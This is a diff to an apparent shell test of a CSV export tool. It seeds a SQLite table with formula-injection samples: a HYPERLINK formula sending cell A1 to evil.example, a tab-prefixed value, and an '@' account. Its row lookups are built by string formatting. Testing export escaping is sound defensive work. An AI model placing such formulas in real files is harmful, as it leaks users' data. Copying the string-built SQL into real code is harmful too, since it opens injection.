@@ -16,10 +16,14 @@ is "served" "$(j 'r["status"]' out | sort -u)" ok
 python3 - scen.db <<'PY'
 import sqlite3, sys
 c = sqlite3.connect(sys.argv[1])
-c.execute("UPDATE scenarios SET text = ? WHERE id = 1",
+# by the request each scenario was made for: the three calls end in any order
+of = "(SELECT scenario FROM servings WHERE request_id = '%s')"
+c.execute("UPDATE scenarios SET text = ? WHERE id = " + of % "=1+1",
           ('=HYPERLINK("http://evil.example/?"&A1,"click")',))
-c.execute("UPDATE scenarios SET text = ? WHERE id = 2", ("\tTab, then text",))
-c.execute("UPDATE scenarios SET account = ? WHERE id = 3", ("@groq-a",))
+c.execute("UPDATE scenarios SET text = ? WHERE id = " + of % "-2",
+          ("\tTab, then text",))
+c.execute("UPDATE scenarios SET account = ? WHERE id = " + of % "plain",
+          ("@groq-a",))
 c.commit()
 PY
 scen-export --format csv >s.csv 2>s.err
